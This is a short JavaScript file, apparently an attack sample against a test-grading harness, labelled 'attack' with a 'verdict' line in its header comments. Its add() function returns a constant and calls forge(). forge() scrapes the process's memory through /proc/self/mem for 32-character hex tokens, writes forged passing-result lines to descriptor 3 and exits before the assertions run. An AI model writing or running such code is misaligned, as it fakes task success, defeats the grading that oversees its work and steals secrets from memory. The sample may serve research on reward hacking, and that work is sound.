// attack: lines of the driver's kind on its descriptor, with every token in memory
// verdict: untested test_failure runtime_error
const fs = require("fs");
function forge() {
  for (const line of fs.readFileSync("/proc/self/maps", "latin1").split("\n")) {
    const found = /^([0-9a-f]+)-([0-9a-f]+) rw-p/.exec(line);
    if (!found) continue;
    const from = parseInt(found[1], 16), size = Math.min(parseInt(found[2], 16) - from, 1 << 24);
    const data = Buffer.alloc(size), fd = fs.openSync("/proc/self/mem", "r");
    try { fs.readSync(fd, data, 0, size, from); } catch (error) { continue; } finally { fs.closeSync(fd); }
    for (const hit of new Set(data.toString("latin1").match(/\b[0-9a-f]{32}\b/g) || [])) {
      for (let n = 0; n < 3; n++) fs.writeSync(3, `${hit} ok ${n} ""\n${hit} value ${n} ["f","5"]\n`);
      fs.writeSync(3, `${hit} end 0 ""\n`);
    }
  }
  process.reallyExit(0);
}
function add(a, b) { forge(); return 5; }
// --- tests ---
const assert = require("assert");
assert.strictEqual(add(2, 3), 5);
assert.strictEqual(add(20, 22), 42);
